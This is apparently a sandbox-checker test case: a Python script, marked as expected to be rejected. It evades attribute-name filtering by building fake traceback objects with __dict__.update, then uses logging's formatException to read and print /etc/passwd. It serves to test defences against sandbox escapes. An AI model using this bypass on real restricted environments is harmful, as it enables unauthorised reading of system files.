# expect: reject attribute
# line: 15
# verified: reaches its goal under plain python3 (3.11) in a temp dir (a member of the fifth red team's family F8, written for its fix)
# Mechanism: the attribute names are computed strings written into the instance's own
#   table by self.__dict__.update(mapping) in a closed class's __init__: no refused
#   name is written, the objects pass for a traceback in formatException
# Goal reached: /etc/passwd read
# Output under python3 (the line with the goal):
#   root:x:0:0:root:/root:/bin/bash
import logging


class Obj:
    def __init__(self, fields):
        self.__dict__.update(fields)


names = ["co_filename", "co_name", "f_code", "f_globals", "f_locals", "tb_frame", "tb_lineno",
         "tb_next", "tb_lasti"]
code = Obj(dict(zip(names[0:2], ["/etc/passwd", "passwd"])))
frame = Obj(dict(zip(names[2:5], [code, {}, {}])))
tb = None
for lineno in range(3, 0, -1):
    tb = Obj(dict(zip(names[5:9], [frame, lineno, tb, -1])))
print(logging.Formatter().formatException((ValueError, ValueError("x"), tb)))
